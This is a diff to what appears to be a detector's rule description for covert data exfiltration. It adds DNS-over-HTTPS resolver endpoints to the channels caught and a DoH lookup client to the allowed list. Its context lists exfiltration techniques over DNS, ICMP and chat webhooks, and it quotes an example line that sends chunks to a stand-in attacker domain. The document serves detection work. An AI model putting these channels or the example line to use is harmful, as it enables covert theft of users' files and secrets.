@@ -4,7 +4,10 @@ What it catches
     Data encoded and split into chunks (or looked up piece by piece as DNS names) that travel as
     DNS lookups or ICMP/raw packet payloads (also Ruby's `Resolv::DNS#getresources`, Perl's
     `Net::DNS::Resolver` over `unpack('H*', ...)`, Java's `InetAddress.getByName`, a file read
-    in small pieces straight into a packet after its ICMP header in C), a user's folder
+    in small pieces straight into a packet after its ICMP header in C; lookups made over HTTPS
+    to a public resolver's DoH endpoint, `dns.google/resolve?name=`, `/dns-query?name=`, a
+    request asking for `application/dns-json`, which the network sees only as TLS to the
+    resolver), a user's folder
     archived and posted in pieces to a chat webhook (Discord's, Slack's) under its size limit,
     or a file walk whose contents are chunked or encoded and uploaded to a webhook or server
     (Perl's File::Find and HTTP::Tiny or a POST written by hand to a socket, PHP's Guzzle);
@@ -28,7 +31,9 @@ Example
     `    dns.resolver.resolve(f"{chunk}.x.evil.example")`
 
 Allowed instead
-    Syncing one's own documents to one's own bucket, a Suricata rule for DNS tunnelling,
+    Syncing one's own documents to one's own bucket, a DoH resolver client looking up a host
+    name (RFC 8484's base64url query message is one lookup, not chunks of data), a Suricata rule
+    for DNS tunnelling,
     uploading logs to a SIEM, resumable uploads with `Content-Range` and retry backoff or a
     storage service's upload sessions (`files_upload_session_start`, S3 multipart), a
     request-id header, DNS monitoring that flags long labels, ping health checks, a database
